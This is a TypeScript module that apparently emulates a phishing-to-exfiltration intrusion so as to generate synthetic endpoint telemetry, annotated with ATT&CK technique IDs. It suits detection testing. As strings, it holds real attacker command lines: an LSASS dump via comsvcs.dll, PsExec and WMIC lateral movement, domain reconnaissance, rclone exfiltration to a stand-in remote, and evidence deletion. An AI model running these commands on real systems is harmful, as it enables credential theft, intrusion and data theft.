/**
 * An emulated intrusion, step by step as such things go: a document by mail, a script, a beacon, a look around, memory of the
 * logon service, another machine by PsExec and a third by WMI, files gathered, packed, carried off, traces removed. Nothing
 * in it works as an attack: commands name things of the simulation only. ATT&CK techniques in the comments.
 */
import { reach } from './estate.ts';
import type { Estate } from './estate.ts';
import { SYSTEM } from './machine.ts';
import type { Machine, Process } from './machine.ts';
import { POWERSHELL, WORD } from './ordinary.ts';
import type { Session } from './ordinary.ts';

const SECOND = 1_000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const STAGE = 'C:\\ProgramData\\Intel\\Logs';

/** What the first day leaves for the second. */
export interface Foothold {
  readonly machine: Machine;
  readonly beacon: Process;
}

/** Day one: in, and a look around. */
export function breakIn({ site, chance, controller }: Estate, { desk: { machine, user }, outlook }: Session, midnight: number): Foothold {
  const { control, address } = site.attacker;
  const time = midnight + 10 * HOUR + chance.below(90) * MINUTE;
  // T1566.001, T1204.002
  const attachment = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${chance.hex(8).toUpperCase()}\\Overdue-${chance.between(1_000, 9_999)}.docm`;
  machine.write(time, outlook, attachment);
  const word = machine.start(time + 40 * SECOND, outlook, WORD, `"${WORD}" /n "${attachment}" /o ""`);
  machine.load(
    time + 42 * SECOND,
    word,
    'C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL',
    'Microsoft Corporation',
  );
  // T1059.001: the encoded text says `echo simulated`.
  const script = machine.start(
    time + 55 * SECOND,
    word,
    POWERSHELL,
    'powershell.exe -NoP -W Hidden -Enc ZQBjAGgAbwAgAHMAaQBtAHUAbABhAHQAZQBkAA==',
  );
  machine.lookUp(time + 57 * SECOND, script, control, address);
  machine.connect(time + 58 * SECOND, script, { address, port: 443 });
  const payload = `C:\\Users\\${user.name}\\AppData\\Roaming\\Microsoft\\TelemetryHost.dll`;
  machine.write(time + 63 * SECOND, script, payload);
  // T1218.011, T1071.001
  const rundll = 'C:\\Windows\\System32\\rundll32.exe';
  const beacon = machine.start(time + 70 * SECOND, script, rundll, `rundll32.exe ${payload},Start`);
  machine.load(time + 71 * SECOND, beacon, payload, '-');
  machine.end(time + 75 * SECOND, script);
  callHome(machine, beacon, { address, name: control }, time + 90 * SECOND, 24, () => chance.between(540, 660) * SECOND);
  // T1033, T1087.002, T1018, T1482
  for (const [index, command] of [
    'whoami /all',
    'net group "Domain Admins" /domain',
    'nltest /dclist:',
    'ipconfig /all',
    'systeminfo',
    'net view',
  ].entries()) {
    const at = time + 20 * MINUTE + index * 47 * SECOND;
    const shell = machine.start(at, beacon, CMD, `C:\\Windows\\system32\\cmd.exe /C ${command}`);
    const tool = command.split(' ', 1)[0]!;
    const child = machine.start(at + 300, shell, `C:\\Windows\\System32\\${tool}.exe`, command);
    if (tool === 'net' || tool === 'nltest') machine.connect(at + 500, child, { address: controller.host.address, port: 389 });
    machine.end(at + 2 * SECOND, child);
    machine.end(at + 3 * SECOND, shell);
  }
  return { machine, beacon };
}

/** Day two: secrets of the logon service, and on to the servers. */
export function spread(estate: Estate, { machine, beacon }: Foothold, midnight: number): { shell: Process } {
  const { site, chance, files, database } = estate;
  const { control, address } = site.attacker;
  const time = midnight + 13 * HOUR + chance.below(60) * MINUTE;
  callHome(machine, beacon, { address, name: control }, midnight + 9 * HOUR, 30, () => chance.between(540, 660) * SECOND);
  // T1055, T1003.001
  machine.inject(time, beacon, machine.svchost);
  const dump = `${STAGE}\\lsass.dmp`;
  const dumper = machine.start(
    time + MINUTE,
    beacon,
    'C:\\Windows\\System32\\rundll32.exe',
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${machine.lsass.pid} ${dump} full`,
    SYSTEM,
  );
  machine.load(time + MINUTE + 200, dumper, 'C:\\Windows\\System32\\comsvcs.dll');
  machine.access(time + MINUTE + 400, dumper, machine.lsass, '0x1fffff');
  machine.write(time + MINUTE + 900, dumper, dump);
  machine.end(time + MINUTE + 4 * SECOND, dumper);
  // T1110.003, then T1021.002 and T1569.002
  for (let tries = 0; tries < 6; tries++) files.failLogOn(time + 20 * MINUTE + tries * 11 * SECOND, site.admin, machine.host.address);
  const psexec = machine.start(time + 25 * MINUTE, beacon, `${STAGE}\\PsExec64.exe`, `PsExec64.exe \\\\${files.host.name} -s cmd.exe`);
  reach(time + 25 * MINUTE + 500, machine, machine.system, files, 445, site.admin);
  files.write(time + 25 * MINUTE + SECOND, files.system, 'C:\\Windows\\PSEXESVC.exe');
  const service = files.start(
    time + 25 * MINUTE + 2 * SECOND,
    files.services,
    'C:\\Windows\\PSEXESVC.exe',
    'C:\\Windows\\PSEXESVC.exe',
    SYSTEM,
  );
  const shell = files.start(time + 25 * MINUTE + 3 * SECOND, service, CMD, '"cmd.exe"', SYSTEM);
  machine.end(time + 40 * MINUTE, psexec);
  // T1047
  const wmic = machine.start(
    time + 35 * MINUTE,
    beacon,
    'C:\\Windows\\System32\\wbem\\WMIC.exe',
    `wmic /node:${database.host.name} process call create "cmd.exe /c dir D:\\Backup"`,
  );
  reach(time + 35 * MINUTE + 400, machine, wmic, database, 135, site.admin);
  const provider = database.start(
    time + 35 * MINUTE + 900,
    database.svchost,
    'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    SYSTEM,
  );
  const remote = database.start(time + 35 * MINUTE + 1_500, provider, CMD, 'cmd.exe /c dir D:\\Backup', site.admin);
  database.connect(time + 35 * MINUTE + 1_900, remote, { address: files.host.address, port: 445 });
  machine.end(time + 36 * MINUTE, wmic);
  return { shell };
}

/** Day three: gathered, packed, carried off, and tidied up. */
export function carryOff({ site, chance, files }: Estate, { shell }: { shell: Process }, midnight: number): void {
  const { drop, dropAddress } = site.attacker;
  const time = midnight + 2 * HOUR + chance.below(120) * MINUTE;
  // T1039, T1074.001, T1560.001
  const copy = files.start(time, shell, 'C:\\Windows\\System32\\Robocopy.exe', `robocopy D:\\Shares ${STAGE}\\q *.xlsx *.docx /S`);
  const taken = Array.from({ length: 12 }, (_, index) => `${STAGE}\\q\\${chance.hex(6)}-${index}.xlsx`);
  taken.forEach((path, index) => files.write(time + (index + 1) * 800, copy, path));
  files.end(time + 20 * SECOND, copy);
  const archive = `${STAGE}\\q.7z`;
  const packer = files.start(time + 3 * MINUTE, shell, `${STAGE}\\7z.exe`, `7z.exe a -p ${archive} ${STAGE}\\q`);
  files.write(time + 4 * MINUTE, packer, archive);
  files.end(time + 4 * MINUTE + 200, packer);
  // T1567.002
  const carrier = files.start(
    time + 9 * MINUTE,
    shell,
    `${STAGE}\\rclone.exe`,
    `rclone.exe copy ${archive} drop:in --config ${STAGE}\\r.conf`,
  );
  files.lookUp(time + 9 * MINUTE + 300, carrier, drop, dropAddress);
  for (let part = 0; part < 9; part++)
    files.connect(time + 9 * MINUTE + 600 + part * 21 * SECOND, carrier, { address: dropAddress, port: 443 });
  files.end(time + 14 * MINUTE, carrier);
  // T1070.004
  const tidy = files.start(time + 20 * MINUTE, shell, CMD, `cmd.exe /c rd /s /q ${STAGE}\\q & del ${archive}`);
  for (const [index, path] of [...taken, archive].entries()) files.remove(time + 20 * MINUTE + (index + 1) * 50, tidy, path);
  files.end(time + 20 * MINUTE + 2 * SECOND, tidy);
}

function callHome(
  machine: Machine,
  process: Process,
  to: { address: string; name: string },
  from: number,
  times: number,
  wait: () => number,
): void {
  let time = from;
  for (let call = 0; call < times; call++) {
    if (call % 6 === 0) machine.lookUp(time - 90, process, to.name, to.address);
    machine.connect(time, process, { address: to.address, port: 443 });
    time += wait();
  }
}
